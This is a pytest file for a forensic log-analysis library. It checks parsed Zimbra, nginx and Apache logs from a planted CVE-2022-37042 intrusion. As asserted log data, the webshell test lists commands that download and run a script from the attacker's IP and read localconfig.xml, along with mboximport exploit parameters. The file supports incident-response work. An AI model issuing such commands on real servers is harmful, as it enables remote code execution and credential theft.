"""The hand-written Zimbra collection (``tests/data/zimbra_demo``) answers the analyst's first questions about the
planted CVE-2022-37042 intrusion: who POSTed to mboximport, what they got back, and which
webshell was then used, seen both by mailboxd (GMT) and by the nginx proxy (local time)."""

from __future__ import annotations

import gzip
import hashlib
import warnings
from datetime import datetime, timezone

import polars as pl
import pytest

import veilleur as vl

from conftest import DEMO, check_counts, check_provenance, expected_lines, file_rows, summary_row

ATTACKER = "203.0.113.66"
SCANNER = "192.0.2.77"
MBOX = "/service/extension/backup/mboximport"
SHELL = "/zimbraAdmin/public/jsp/Kq3vT8nWz2pLm6Rb.jsp"
LOG = DEMO / "opt/zimbra/log"
ACCESS = LOG / "access_log.2022-09-06"
NGINX = LOG / "nginx.access.log"
NGINX_GZ = LOG / "nginx.access.log.1.gz"
APACHE = DEMO / "var/log/apache2/access.log"
MAILBOX = LOG / "mailbox.log"
AUDIT = LOG / "audit.log"


def t(hms: str, day: int = 6) -> datetime:
    h, m, s = map(int, hms.split(":"))
    return datetime(2022, 9, day, h, m, s, tzinfo=timezone.utc)


@pytest.fixture(scope="module")
def demo() -> vl.Bundle:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        bundle = vl.read(DEMO, tz="Europe/Paris")  # the server's zone, for mailbox.log and audit.log
    assert not caught, [str(w.message) for w in caught]  # every file is recognised and whole
    return bundle


def test_demo_files_and_summary(demo: vl.Bundle) -> None:
    s = demo.summary
    check_counts(s)
    assert s.height == 6
    expect = {
        MAILBOX: ("zimbra_mailbox", "none"),
        AUDIT: ("zimbra_audit", "none"),
        ACCESS: ("zimbra_access", "none"),
        NGINX: ("zimbra_nginx", "none"),
        NGINX_GZ: ("zimbra_nginx", "gzip"),
        APACHE: ("combined", "none"),
    }
    for path, (fmt, comp) in expect.items():
        row = summary_row(s, path)
        raw = path.read_bytes()
        plain = gzip.decompress(raw) if comp == "gzip" else raw
        assert (row["format"], row["compression"], row["status"]) == (fmt, comp, "ok"), row
        assert row["sha256"] == hashlib.sha256(raw).hexdigest()
        assert row["bytes"] == len(raw) and row["decompressed_bytes"] == len(plain)
        assert row["lines"] == expected_lines(plain)
    # the collection copied access_log while Jetty was writing: the last line is cut short
    assert summary_row(s, ACCESS)["rejected"] == 1
    assert summary_row(s, APACHE)["rejected"] == 1
    assert summary_row(s, NGINX)["rejected"] == 0 and summary_row(s, NGINX_GZ)["rejected"] == 0
    assert demo.formats == ["combined", "zimbra_access", "zimbra_audit", "zimbra_mailbox", "zimbra_nginx"]
    assert 300 <= int(s["lines"].sum()) <= 1000


def test_demo_rejects(demo: vl.Bundle) -> None:
    r = demo.rejects.sort("file")
    assert r.height == 2
    acc = file_rows(r, ACCESS).row(0, named=True)
    assert acc["raw"] == "10.10.2.23 - - [06/Sep/2022:10:58:4"
    assert acc["line"] == expected_lines(ACCESS.read_bytes())
    ap = file_rows(r, APACHE).row(0, named=True)
    assert ap["reason"] == "empty line" and ap["raw"] == ""
    assert APACHE.read_bytes()[ap["offset"] - 1 : ap["offset"] + 1] == b"\n\n"


def test_demo_provenance(demo: vl.Bundle) -> None:
    for path, fmt in ((ACCESS, "zimbra_access"), (NGINX, "zimbra_nginx"), (APACHE, "combined")):
        check_provenance(file_rows(demo[fmt], path), path.read_bytes())
    check_provenance(file_rows(demo["zimbra_nginx"], NGINX_GZ), gzip.decompress(NGINX_GZ.read_bytes()))


def test_demo_gzip_is_deterministic() -> None:
    raw = NGINX_GZ.read_bytes()
    assert raw[:2] == b"\x1f\x8b" and raw[4:8] == b"\x00\x00\x00\x00", "gzip header mtime must be 0"


def _mbox_posts(ev: pl.DataFrame) -> pl.DataFrame:
    return ev.filter((pl.col("http_method") == "POST") & pl.col("url").str.contains(MBOX, literal=True)).sort("ts")


def test_mboximport_posts(demo: vl.Bundle) -> None:
    """Question 1: who POSTed to mboximport, when, and what did they get? (401 is not a failure.)"""
    ev = demo.events
    for source in ("zimbra_access", "zimbra_nginx"):
        posts = _mbox_posts(ev.filter(pl.col("source") == source))
        assert posts["ts"].to_list() == [t("07:40:27"), t("09:14:02"), t("09:14:05"), t("09:21:40")], source
        assert posts["src_ip"].to_list() == [SCANNER, ATTACKER, ATTACKER, ATTACKER], source
        assert posts["http_status"].to_list() == [401, 401, 401, 200], source
        mine = posts.filter(pl.col("src_ip") == ATTACKER)
        assert mine.height == 3
        assert sorted(set(mine["http_status"].to_list())) == [200, 401]
    nginx = _mbox_posts(ev.filter(pl.col("source") == "zimbra_nginx"))
    assert nginx["src_port"].to_list() == [38104, 52014, 52016, 52110]
    assert set(nginx["domain"].to_list()) == {"mail.example.org"}
    # the typed table has the three request forms, parameters as logged
    acc = demo["zimbra_access"].filter((pl.col("path") == MBOX) & (pl.col("method") == "POST")).sort("ts")
    assert acc["query"].to_list() == [
        "account-name=admin&account-status=1&ow=cmd",
        "account-name=admin&ow=1&no-switch=true",
        "account-name=admin&ow=2&no-switch=1&append=1",
        "account-name=admin&ow=2&no-switch=1&append=1",
    ]
    assert acc["client_ip"].to_list() == [SCANNER, ATTACKER, ATTACKER, ATTACKER]
    assert acc["user_agent"][1] == "Mozilla/5.0 (X11; Linux x86_64; rv:101.0) Gecko/20100101 Firefox/101.0"
    assert acc["latency_ms"].to_list() == [8, 7, 9, 380]


def test_recon_is_in_the_rotated_proxy_log(demo: vl.Bundle) -> None:
    """The fingerprinting at 05:58 local time happened before logrotate (06:25): it is in the .1.gz."""
    nginx = demo["zimbra_nginx"].filter((pl.col("client_ip") == ATTACKER) & (pl.col("ts") < t("04:25:00")))
    assert nginx.height == 4
    assert set(nginx["file"].cast(pl.String).to_list()) == {str(NGINX_GZ)} or all(
        f.endswith("nginx.access.log.1.gz") for f in nginx["file"].cast(pl.String).to_list()
    )
    probe = nginx.filter(pl.col("path") == MBOX).row(0, named=True)
    assert (probe["method"], probe["status"], probe["ts"], probe["user_agent"]) == (
        "GET", 401, t("03:58:14"), "python-requests/2.28.1",
    )
    acc = demo["zimbra_access"].filter((pl.col("client_ip") == ATTACKER) & (pl.col("ts") < t("04:25:00")))
    assert acc["ts"].to_list() == nginx["ts"].to_list() == [t("03:58:11"), t("03:58:12"), t("03:58:14"), t("03:58:16")]


def test_webshell_requests(demo: vl.Bundle) -> None:
    """Question 2: which JSP outside the product answered 200, to whom, with what commands?"""
    ev = demo.events
    jsp_ok = ev.filter(
        pl.col("url").str.contains(".jsp", literal=True) & (pl.col("http_status") == 200)
    )
    assert set(jsp_ok["src_ip"].to_list()) == {ATTACKER}
    shell_ts = [t("09:14:09"), t("09:14:31"), t("09:15:02"), t("09:15:20"), t("09:22:05")]
    for source in ("zimbra_access", "zimbra_nginx"):
        rows = jsp_ok.filter(pl.col("source") == source).sort("ts")
        assert rows["ts"].to_list() == shell_ts, source
        assert set(rows["http_method"].to_list()) == {"GET"}
    acc = demo["zimbra_access"].filter(pl.col("path") == SHELL).sort("ts")
    assert acc["query"].to_list() == [
        "cmd=id",
        "cmd=uname%20-a",
        "cmd=curl%20http%3A%2F%2F203.0.113.66%2Fx.sh%20-o%20%2Ftmp%2Fx.sh",
        "cmd=sh%20%2Ftmp%2Fx.sh",
        "cmd=cat%20%2Fopt%2Fzimbra%2Fconf%2Flocalconfig.xml",
    ]
    assert acc["status"].to_list() == [200] * 5
    assert acc["user_agent"].to_list() == ["curl/7.74.0"] * 5
    # the shell answered right after two POSTs that got 401: the bypass worked despite the 401
    posts = _mbox_posts(ev.filter((pl.col("source") == "zimbra_access") & (pl.col("src_ip") == ATTACKER)))
    first_200_post = posts.filter(pl.col("http_status") == 200)["ts"][0]
    assert posts.filter(pl.col("http_status") == 401)["ts"].max() < shell_ts[0] < first_200_post
    # the mass scanner's nuclei check found no shell
    nuclei = demo["zimbra_access"].filter(pl.col("path") == "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp")
    assert nuclei.select("client_ip", "status", "ts").rows() == [(SCANNER, 404, t("07:40:28"))]


def test_three_clocks_line_up(demo: vl.Bundle) -> None:
    """nginx writes +0200 local time, Jetty +0000: the same request has the same UTC instant."""
    nginx = demo["zimbra_nginx"].filter(pl.col("path") == SHELL).sort("ts")
    raw = NGINX.read_bytes()
    first = nginx.row(0, named=True)
    line = raw[first["offset"] : raw.index(b"\n", first["offset"])]
    assert b"[06/Sep/2022:11:14:09 +0200]" in line
    assert first["ts"] == t("09:14:09")
    assert first["client"] == "203.0.113.66:52020" and first["client_port"] == 52020
    assert first["upstream"] == "10.10.1.5:8080" and first["server"] == "mail.example.org:443"


def test_apache_scan_by_the_same_attacker(demo: vl.Bundle) -> None:
    ap = demo["combined"].filter(pl.col("client_ip") == ATTACKER).sort("ts", "line")
    assert ap.height == 9
    assert ap["ts"].min() == t("08:50:02") and ap["ts"].max() == t("08:50:07")
    tls = ap.filter(pl.col("method").is_null())
    assert tls.height == 1 and tls["status"][0] == 400 and tls["request"][0].startswith("\\x16\\x03\\x01")
    shellshock = demo["combined"].filter(pl.col("user_agent").str.starts_with("() {"))
    assert shellshock["client_ip"].to_list() == ["192.0.2.200"]
    timeout = demo["combined"].filter(pl.col("status") == 408).row(0, named=True)
    assert (timeout["request"], timeout["method"], timeout["referrer"], timeout["user_agent"], timeout["bytes"]) == (
        "-", None, None, None, None,
    )


def test_mailbox_log_shows_the_import_running_despite_the_401(demo: vl.Bundle) -> None:
    """The CVE-2022-37042 bug: 'Auth failed' is logged, the client gets a 401, and the import runs
    anyway. mailbox.log (local time, CEST) lines up with access_log (GMT) once read with tz."""
    mb = demo["zimbra_mailbox"]
    imports = mb.filter(pl.col("thread_url").str.contains("mboximport", literal=True))
    assert imports.filter(pl.col("message") == "Auth failed")["ts"].dt.truncate("1s").to_list() == [
        t("07:40:27"),  # the scanner
        t("09:14:02"),
        t("09:14:05"),
        t("09:21:40"),
    ]
    done = imports.filter(pl.col("message").str.starts_with("Completed mailbox import"))
    assert done["ts"].dt.truncate("1s").to_list() == [t("09:21:40")]
    failed = imports.filter(pl.col("exception").is_not_null()).row(0, named=True)
    assert failed["exception"] == "com.zimbra.common.service.ServiceException"
    assert failed["n_lines"] == 10 and "ZipException" in failed["message"]
    # the same seconds in access_log, answered 401 then 200
    web = demo["zimbra_access"].filter((pl.col("client_ip") == ATTACKER) & (pl.col("method") == "POST"))
    assert list(zip(web["ts"].to_list(), web["status"].to_list())) == [(t("09:14:02"), 401), (t("09:14:05"), 401), (t("09:21:40"), 200)]


def test_audit_log_shows_the_operator_admin_login(demo: vl.Bundle) -> None:
    au = demo["zimbra_audit"].filter(pl.col("client_ip") == ATTACKER)
    assert au.select("cmd", "account", "action").rows() == [
        ("AdminAuth", "admin@hopital.example.fr", "login_fail"),
        ("AdminAuth", "admin@hopital.example.fr", "login_ok"),
    ]
    assert au["ts"].dt.truncate("1s").to_list() == [t("09:29:51"), t("09:30:09")]
    assert demo.events.filter(pl.col("action") == "login_fail")["user"].to_list() == [
        "dmartin@hopital.example.fr",
        "admin@hopital.example.fr",
    ]
